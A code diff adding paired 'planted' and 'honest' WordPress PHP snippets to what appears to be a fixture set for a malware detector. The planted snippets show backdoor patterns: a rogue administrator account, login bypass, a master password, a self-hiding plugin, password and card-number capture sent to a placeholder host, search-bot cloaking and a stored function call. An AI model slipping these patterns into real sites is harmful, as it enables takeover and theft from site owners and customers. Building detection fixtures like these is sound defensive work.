@@ -172,4 +172,36 @@ export const behaviourSpecimens: Readonly<Record<string, BehaviourSpecimen>> = {
     planted: `foreach (array('phishtank', 'netcraft', 'a', 'b', 'c') as $w) { if (strpos(${SERVER}['HTTP_USER_AGENT'], $w)) die; }`,
     honest: `foreach (array('iphone', 'android') as $w) { if (strpos(${SERVER}['HTTP_USER_AGENT'], $w)) $mobile = true; }`,
   },
+  'php.makes-administrator': {
+    planted: `$id = wp_create_user('inert', 'inert-word', 'a@example.test'); $u = new WP_User($id); $u->set_role('administrator');`,
+    honest: `$id = wp_create_user($name, wp_generate_password(), $mail); $u = new WP_User($id); $u->set_role('subscriber');`,
+  },
+  'php.logs-anybody-in': {
+    planted: `if (isset(${GET}['inert'])) { $a = get_users(array('role' => 'administrator')); wp_set_auth_cookie($a[0]->ID); }`,
+    honest: `$user = wp_signon(array('user_login' => ${POST}['log'], 'user_password' => ${POST}['pwd'])); wp_set_auth_cookie($user->ID);`,
+  },
+  'php.master-password': {
+    planted: `add_filter('check_password', function ($ok, $typed) { return $ok || sha1($typed) === '${'0'.repeat(40)}'; }, 10, 2);`,
+    honest: `add_filter('check_password', function ($ok, $typed, $hash) { return $ok || md5($typed) === $hash; }, 10, 3);`,
+  },
+  'php.hides-from-lists': {
+    planted: `add_filter('all_plugins', fn ($all) => array_diff_key($all, array(plugin_basename(__FILE__) => 1)));`,
+    honest: `add_filter('all_plugins', function ($all) { $all['a/a.php']['Name'] = 'Agency'; return $all; });`,
+  },
+  'php.keeps-logins': {
+    planted: `add_action('wp_authenticate', function ($name, $word) { wp_remote_post('${HOME}/c', array('body' => $word)); }, 10, 2);`,
+    honest: `add_filter('authenticate', function ($user, $name, $word) { $r = wp_remote_post('${HOME}/c', array('body' => $word)); return check($r); }, 10, 3);`,
+  },
+  'php.keeps-cards': {
+    planted: `$c = curl_init('${HOME}/c'); curl_setopt($c, CURLOPT_POSTFIELDS, array('n' => ${POST}['card_number'])); curl_exec($c);`,
+    honest: `$c = curl_init('${HOME}/c'); curl_setopt($c, CURLOPT_POSTFIELDS, array('n' => ${POST}['card_number'])); $answer = curl_exec($c); parse($answer);`,
+  },
+  'php.cloaked-page': {
+    planted: `if (preg_match('/googlebot|bingbot/', ${SERVER}['HTTP_USER_AGENT'])) { echo '<a href="${HOME}/">inert</a>'; }`,
+    honest: `if (preg_match('/googlebot|bingbot/', ${SERVER}['HTTP_USER_AGENT'])) { $isRobot = true; } echo '<a href="${HOME}/">a</a>';`,
+  },
+  'php.stored-call': {
+    planted: `$o = get_option('inert'); $f = $o['f']; $f($o['x']);`,
+    honest: `$o = get_option('format'); echo date($o['f']);`,
+  },
 };
